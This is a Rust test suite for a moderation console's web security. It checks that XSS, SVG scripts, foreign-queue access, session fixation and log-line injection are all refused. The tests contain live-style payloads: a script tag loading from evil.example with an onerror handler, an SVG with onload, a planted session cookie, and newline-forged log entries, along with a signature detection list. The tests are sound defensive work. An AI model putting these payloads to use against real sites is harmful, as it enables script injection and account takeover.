//! What an attacker tries on the console and on what it shows. Each attack is refused by a test; those that stand elsewhere are named here.
//!
//! | attack | refused by |
//! |---|---|
//! | forged forms (CSRF) | `safety::no_other_site_sends_a_form`, `safety::no_form_is_taken_without_the_token_of_its_session` |
//! | markup in ids, text, file and account names | `safety::what_the_platform_sends_is_text_and_nothing_else`, and below in searches and notices |
//! | SVG | below |
//! | cases of queues one does not work on (IDOR) | below; `together::what_waits_in_foreign_queues_is_not_there`; `rights`, `people` in the store's suite |
//! | a planted session (fixation) | below; `access::signing_in_takes_three_things_and_makes_a_new_session` |
//! | addresses inside the network as media (SSRF) | `http::fetch` |
//! | more through the API than in the console | `http::access`; `rights` in the store's suite |
//! | guessing passwords and keys | `access::many_failures_make_guesses_slow_whether_or_not_there_is_such_a_name`, `http::errors::guessing_keys_is_slow_and_hinders_no_one_else` |
//! | lines of its own in the log | below |
//! | headers of its own in webhooks | `actions::no_name_of_the_platforms_reaches_a_header` in the store's suite |

use moderation::flows::access;
use moderation::model::{Actor, Queue, QueueSet, Role};

use crate::people::{Person, get, submit};
use crate::world::{KNOWN, World, pdq};

const EVIL: &str = "\"><script src=//evil.example></script><img src=x onerror=alert(1)>";

fn is_harmless(body: &str) -> bool {
    let lower = body.to_lowercase();
    !["<script src=//evil", "<img src=x", "onerror=alert(1)>", "<svg onload"]
        .iter()
        .any(|sign| lower.contains(sign))
}

#[tokio::test]
async fn what_is_searched_for_comes_back_as_text() {
    let world = World::new().await;
    let amal = Person::join(&world, "amal", Role::Moderator).await;
    let evil: String = form_urlencoded::byte_serialize(EVIL.as_bytes()).collect();
    for field in [
        "q", "account", "channel", "label", "hash", "from", "to", "kind", "outcome", "cursor",
    ] {
        let page = amal.get(&world, &format!("/search?{field}={evil}")).await;
        assert!(is_harmless(&page.body), "{field}");
    }
    let kept = amal
        .post(&world, "/search/keep", &[("name", &EVIL[..40]), ("query", "q=x")])
        .await;
    assert_eq!(kept.leads_to(), "/search?q=x");
    let page = amal.get(&world, "/search").await;
    assert!(page.body.contains("&#60;script") && is_harmless(&page.body));
}

#[tokio::test]
async fn what_the_person_is_told_is_text() {
    let world = World::new().await;
    let bank = world.bank("known", false).await;
    world.entry(bank, pdq(KNOWN)).await;
    let amal = Person::join(&world, "amal", Role::Moderator).await;
    let case = submit(&world, "post-1", pdq(KNOWN), |_| {}).await;
    let fields = [
        ("outcome", "restrict"),
        ("policy", "terrorist_content"),
        ("notice_terrorist_content", EVIL),
        ("assessment_note", EVIL),
        ("reason", EVIL),
        ("notice_language", EVIL),
        ("revision", "1"),
    ];
    let page = amal.post(&world, &format!("/cases/{case}/decide"), &fields).await;
    page.says(422, "Say for which purpose");
    assert!(is_harmless(&page.body));
}

#[tokio::test]
async fn a_drawing_that_can_run_is_never_shown() {
    let world = World::new().await;
    let bank = world.bank("known", false).await;
    let lead = Person::join(&world, "ben", Role::Lead).await;
    let svg = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>";
    let page = lead
        .upload(&world, &format!("/banks/{bank}/add-file"), &[("file", "a.svg", svg)])
        .await;
    assert_eq!(page.status, 422);
    assert!(is_harmless(&page.body));
    let case = submit(&world, "post-1", pdq(KNOWN), |submission| {
        submission.report = Some("look".to_owned());
        submission.media[0].name = "a.svg".to_owned();
        submission.media[0].content = moderation::flows::submit::NewContent::Bytes(bytes::Bytes::from_static(svg));
    })
    .await;
    let page = lead.get(&world, &format!("/cases/{case}")).await;
    page.says(200, "Not scanned");
    assert!(is_harmless(&page.body) && !page.body.contains("image/svg+xml\" data"));
    for kind in ["small", "blurred", "greyscale", "original"] {
        let media = page
            .body
            .split("/media/")
            .nth(1)
            .map(|rest| rest.split('/').next().unwrap());
        assert_eq!(media, None, "{kind}: no picture of it is offered");
    }
}

#[tokio::test]
async fn what_lies_in_a_foreign_queue_is_not_there() {
    let world = World::new().await;
    let bank = world.bank("known", false).await;
    world.entry(bank, pdq(KNOWN)).await;
    let amal = Person::join(&world, "amal", Role::Moderator).await;
    let user = amal.actor.user().unwrap();
    let only_leads = QueueSet::Only([Queue::Leads].into());
    access::change_queues(&world.app, &Actor::Operator, user, only_leads)
        .await
        .unwrap();
    let case = submit(&world, "post-1", pdq(KNOWN), |_| {}).await;
    for path in [
        format!("/cases/{case}"),
        "/item?id=post-1".to_owned(),
        "/cases/case_01kagy2s3q4v5w6x7y8z9a0b1c".to_owned(),
    ] {
        assert_eq!(amal.get(&world, &path).await.status, 404, "{path}");
    }
    for search in [case.to_string(), "post-1".to_owned(), "post".to_owned()] {
        let page = amal.get(&world, &format!("/search?q={search}")).await;
        page.says(200, "Nothing answers this search.");
    }
    for (path, fields) in [
        (format!("/cases/{case}/take"), vec![]),
        (format!("/cases/{case}/release"), vec![]),
        (format!("/cases/{case}/escalate"), vec![("reason", "x")]),
        (
            format!("/cases/{case}/decide"),
            vec![("outcome", "allow"), ("revision", "1")],
        ),
        ("/item/case".to_owned(), vec![("id", "post-1")]),
    ] {
        assert_eq!(amal.post(&world, &path, &fields).await.status, 404, "{path}");
    }
    assert_eq!(amal.post(&world, "/desk/next", &[]).await.leads_to(), "/desk");
}

#[tokio::test]
async fn a_session_that_was_planted_opens_nothing() {
    let world = World::new().await;
    let amal = Person::join(&world, "amal", Role::Moderator).await;
    let planted = "seawall_session=00000000000000000000000000000000000000000000";
    world.clock.advance(std::time::Duration::from_secs(60));
    let code = moderation::access::secrets::totp_code(&amal.totp_secret, moderation::model::Clock::now(&*world.clock))
        .unwrap();
    let fields = [("name", "amal"), ("password", crate::people::PASSWORD), ("code", &code)];
    let signed_in = crate::people::post(
        &world,
        "/sign-in",
        &[("cookie", planted), ("sec-fetch-site", "same-origin")],
        &fields,
    )
    .await;
    let session = signed_in.cookie("seawall_session").expect("a session of its own");
    assert!(!session.starts_with("00000"));
    // Whoever planted it has nothing.
    let page = get(&world, "/desk", &[("cookie", planted)]).await;
    assert!(page.leads_to().starts_with("/sign-in"));
}

#[tokio::test]
async fn nobody_writes_lines_of_their_own_into_the_log() {
    let world = World::new().await;
    let lead = Person::join(&world, "ben", Role::Lead).await;
    let forged = "post\n{\"seq\":1,\"kind\":\"case.decided\"}";
    let item: Result<moderation::model::ItemId, _> = forged.parse();
    assert!(item.is_err(), "an id has no line ends");
    let invite = access::invite_user(&world.app, &Actor::Operator, "amal\nroot", Role::Moderator.into()).await;
    assert!(invite.is_err(), "a name has no line ends");
    let reason = "x\n2026-11-22 the operator decided";
    let keep = [("name", "a\nb"), ("query", "q=x")];
    lead.post(&world, "/search/keep", &keep).await;
    let bank = world.bank("known", false).await;
    world.entry(bank, pdq(KNOWN)).await;
    let case = submit(&world, "post-1", pdq(KNOWN), |_| {}).await;
    lead.post(&world, &format!("/cases/{case}/escalate"), &[("reason", reason)])
        .await;
    let before = lead.get(&world, "/log").await;
    assert!(
        !before.body.contains("the operator decided"),
        "what people write stands with the case, not in the log"
    );
    let verified = moderation::flows::verify::verify_store(&world.app).await.unwrap();
    assert_eq!(verified.faults, Vec::<String>::new());
}
